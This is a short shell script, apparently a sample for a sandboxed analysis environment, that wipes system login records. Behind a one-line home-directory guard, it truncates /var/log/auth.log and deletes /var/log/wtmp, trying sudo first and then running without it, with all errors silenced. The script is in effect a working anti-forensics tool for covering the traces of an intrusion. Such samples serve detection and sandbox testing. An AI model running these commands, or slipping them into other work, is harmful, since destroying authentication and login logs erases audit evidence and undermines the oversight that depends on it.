#!/bin/sh
# SPDX-License-Identifier: MIT
# Empties the authentication log through sudo.
# Depends on the sudo stand-in for the sudo exec; without it the fallback
# shows the technique.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
sudo -n truncate -s 0 /var/log/auth.log 2>/dev/null || truncate -s 0 /var/log/auth.log 2>/dev/null
sudo -n rm -f /var/log/wtmp 2>/dev/null || rm -f /var/log/wtmp 2>/dev/null
exit 0
